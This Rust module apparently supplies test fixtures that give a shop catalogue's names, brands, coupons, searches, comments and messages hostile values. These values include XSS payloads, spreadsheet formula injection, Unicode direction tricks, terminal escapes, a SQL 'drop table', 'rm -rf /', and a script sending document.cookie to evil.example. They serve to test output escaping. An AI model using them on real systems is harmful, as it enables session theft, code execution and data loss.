//! Texts that attack whoever shows them unescaped: a page, a spreadsheet, a terminal, a reader.
//!
//! Each replaces a harmless text of the calm shop, so that the hostile shop is the same shop in other words.

use crate::catalogue::Product;

/// Put before or around names of products.
const NAMES: [&str; 14] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">x</text></a></svg>",
    "' onmouseover='alert(1)",
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://evil.example\";\"x\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u{202e}gnp.exe\u{202c}",
    "Ket\u{200b}tle\u{200d}\u{feff}",
    "]]>-->\u{1b}[31m{{7*7}}${7*7}'; drop table carts; --",
];

/// One product has a name of so many letters.
const LONGEST: usize = 10_000;

const MESSAGES: [&str; 4] = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "=cmd|' /C calc'!A0",
    "</title><svg onload=alert(1)>",
    "\u{202e}*/ alert(1) /*",
];

const COMMENTS: [&str; 6] = [
    "<img src=x onerror=\"alert(1)\">",
    "-1+1; @import 'http://evil.example/x.css';",
    "+49 <b onclick=alert(1)>call me</b>",
    "</script></style></textarea><script>alert(1)</script>",
    "@evil \u{200f}\u{202e}txet\u{202c} =1+1",
    "`; rm -rf / #\u{1b}]0;owned\u{7}",
];

const VISITORS: [&str; 4] =
    ["<script>alert(1)</script>", "=1+cmd|' /C calc'!A0-", "\"'><svg onload=alert(1)>", "@\u{202e}"];

/// The product under another name and brand; everything else stays.
pub(crate) fn product(product: Product) -> Product {
    let payload = NAMES[index(product.number, NAMES.len())];
    let mut name = format!("{payload} {}", product.name);
    if product.number == 1_060 {
        name = format!("{name} {}", "<b>".repeat(LONGEST)).chars().take(LONGEST).collect();
    }
    let brand = if product.number.is_multiple_of(5) { "<b onmouseover=alert(1)>Acme</b>" } else { product.brand };
    Product { name, brand, ..product }
}

/// What an error says.
pub(crate) fn message(message: &str) -> &'static str {
    MESSAGES[message.len() % MESSAGES.len()]
}

/// A coupon's code; the discount is that of the code behind it.
pub(crate) fn coupon(code: &str) -> &'static str {
    match code {
        "WELCOME10" => "<script>alert(10)</script>",
        "SPRING15" => "=HYPERLINK(\"http://evil.example\")",
        _ => "-10%\"><svg/onload=alert(1)>",
    }
}

/// A search.
pub(crate) fn search(page: &str) -> &'static str {
    match page.len() % 4 {
        0 => "/search?q=<script>alert(1)</script>",
        1 => "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
        2 => "/search?q==cmd|'+/C+calc'!A0",
        _ => "/search?q=\u{202e}elttek%E2%80%8B",
    }
}

/// A comment.
pub(crate) fn comment(comment: &str) -> &'static str {
    COMMENTS[comment.len() % COMMENTS.len()]
}

/// What the browser writes before its identifier; three of four write nothing.
pub(crate) fn visitor(number: u64) -> &'static str {
    if number.is_multiple_of(4) { VISITORS[index(number >> 2, VISITORS.len())] } else { "" }
}

fn index(number: u64, of: usize) -> usize {
    usize::try_from(number % of as u64).unwrap_or(0)
}
